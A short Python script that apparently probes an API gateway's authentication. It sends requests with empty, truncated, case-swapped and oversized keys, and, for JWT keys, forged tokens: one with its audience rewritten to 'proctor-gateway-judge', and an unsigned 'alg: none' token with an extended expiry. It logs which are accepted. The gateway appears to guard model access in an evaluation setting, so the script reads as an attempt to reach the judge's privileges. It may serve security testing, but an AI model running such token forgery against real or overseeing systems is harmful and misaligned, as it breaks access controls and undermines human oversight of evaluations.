import base64
import json
import os
import urllib.error
import urllib.request

base, key = os.environ["ANTHROPIC_BASE_URL"], os.environ["ANTHROPIC_API_KEY"]
BODY = json.dumps({"model": "m", "max_tokens": 5,
                   "messages": [{"role": "user", "content": "hi"}]}).encode()  # fmt: skip


def status(token):
    request = urllib.request.Request(f"{base}/v1/messages", BODY)
    request.add_header("x-api-key", token)
    request.add_header("content-type", "application/json")
    try:
        return urllib.request.urlopen(request, timeout=10).status
    except urllib.error.HTTPError as error:
        return error.code


def encoded(body):
    return base64.urlsafe_b64encode(json.dumps(body).encode()).decode().rstrip("=")


keys = {"": "empty", key[:-1]: "cut", key.swapcase(): "swapped", "x" * 100_000: "long"}
if key.count(".") == 2:
    head, body, signature = key.split(".")
    claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    claims["aud"] = ["proctor-gateway-judge"]
    keys[f"{head}.{encoded(claims)}.{signature}"] = "judge"
    claims["exp"] += 10**6
    keys[f"{encoded({'alg': 'none'})}.{encoded(claims)}."] = "unsigned"
opened = ["tried", f"own {status(key)}"]
opened += [f"open {name}" for token, name in keys.items() if status(token) < 400]
with open("opened.txt", "w") as file:
    file.write("\n".join(opened))
